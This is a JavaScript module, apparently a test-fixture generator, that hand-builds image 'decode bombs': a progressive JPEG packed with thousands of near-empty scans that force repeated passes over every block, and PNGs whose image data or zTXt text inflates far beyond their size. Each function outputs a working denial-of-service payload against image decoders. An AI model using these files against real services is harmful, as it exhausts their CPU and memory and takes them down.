// Decode bombs: small, valid image files that cost a decoder far more than their size.
// Written byte by byte here (no encoder could be told to make them), after the formats'
// specifications: ITU T.81 (JPEG, progressive mode, annex G) and RFC 2083 / ISO 15948 (PNG).
import zlib from 'node:zlib';

class BitWriter {
  constructor() { this.bytes = []; this.acc = 0; this.n = 0; }
  put(value, count) {
    for (let i = count - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((value >> i) & 1);
      if (++this.n === 8) this.flushByte();
    }
  }
  flushByte() {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0x00); // byte stuffing inside entropy-coded data
    this.acc = 0; this.n = 0;
  }
  // Pads the last byte with 1 bits, as T.81 F.1.2.3 says.
  end() { while (this.n !== 0) this.put(1, 1); return Buffer.from(this.bytes); }
}

function segment(marker, body) {
  const head = Buffer.alloc(4);
  head.writeUInt16BE(marker, 0);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

// A progressive JPEG of side x side pixels, three components, whose coefficients are all zero,
// with the most scans the standard allows: one DC scan, then for every component and every AC
// coefficient a first scan at Al=13 and thirteen refinements down to Al=0 (3 x 63 x 14 = 2,646
// AC scans). Each AC scan is a few end-of-band runs, a few bytes, yet a decoder passes over every
// block of the component for each one. side=2048 gives about 116 KB.
export function progressiveJpegBomb(side = 2048, { components = 3 } = {}) {
  const parts = [Buffer.from([0xff, 0xd8])];
  parts.push(segment(0xffdb, Buffer.concat([Buffer.from([0x00]), Buffer.alloc(64, 1)])));
  const sof = [8, side >> 8, side & 255, side >> 8, side & 255, components];
  for (let c = 1; c <= components; c++) sof.push(c, 0x11, 0);
  parts.push(segment(0xffc2, Buffer.from(sof)));
  // DC table 0: one code "0" for category 0 (a zero difference).
  // AC table 0: one code "0" for 0xE0, an end-of-band run of 2^14 + 14 extra bits.
  const counts = (n) => { const a = Array(16).fill(0); a[0] = n; return a; };
  parts.push(segment(0xffc4, Buffer.from([0x00, ...counts(1), 0x00, 0x10, ...counts(1), 0xe0])));
  const blocks = Math.ceil(side / 8) ** 2;
  // The DC scan, all components interleaved: one "0" bit per block.
  const sos = (comps, ss, se, ah, al) => {
    const b = [comps.length];
    for (const c of comps) b.push(c, 0x00);
    b.push(ss, se, (ah << 4) | al);
    return segment(0xffda, Buffer.from(b));
  };
  const ids = Array.from({ length: components }, (_, i) => i + 1);
  parts.push(sos(ids, 0, 0, 0, 0));
  {
    const w = new BitWriter();
    for (let i = 0; i < blocks * components; i++) w.put(0, 1);
    parts.push(w.end());
  }
  // One AC scan's data: end-of-band runs of 32,767 blocks until every block is covered.
  const runs = new BitWriter();
  for (let left = blocks; left > 0; left -= 32767) { runs.put(0, 1); runs.put(0x3fff, 14); }
  const acData = runs.end();
  for (const c of ids) {
    for (let k = 1; k < 64; k++) {
      parts.push(sos([c], k, k, 0, 13), acData);
      for (let al = 12; al >= 0; al--) parts.push(sos([c], k, k, al + 1, al), acData);
    }
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}

function crc32(buf) {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

function chunk(type, data) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

function ihdr(w, h) {
  const b = Buffer.alloc(13);
  b.writeUInt32BE(w, 0);
  b.writeUInt32BE(h, 4);
  b[8] = 8; b[9] = 6; // 8-bit RGBA
  return chunk('IHDR', b);
}

const SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

// A w x h RGBA PNG whose IDAT inflates to `inflated` bytes of zeros: the image's rows, then far
// more. libpng reads the excess as a benign "too much image data" and inflates it all.
export function inflatingPng(w, h, inflated) {
  const z = zlib.deflateSync(Buffer.alloc(inflated), { level: 9 });
  return Buffer.concat([SIG, ihdr(w, h), chunk('IDAT', z), chunk('IEND', Buffer.alloc(0))]);
}

// A small, honest w x h RGBA PNG with a zTXt chunk whose text inflates to `inflated` bytes.
export function textBombPng(w, h, inflated) {
  const rows = Buffer.alloc(h * (1 + w * 4));
  const text = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zlib.deflateSync(Buffer.alloc(inflated, 0x41), { level: 9 })]);
  return Buffer.concat([SIG, ihdr(w, h), chunk('zTXt', text), chunk('IDAT', zlib.deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}
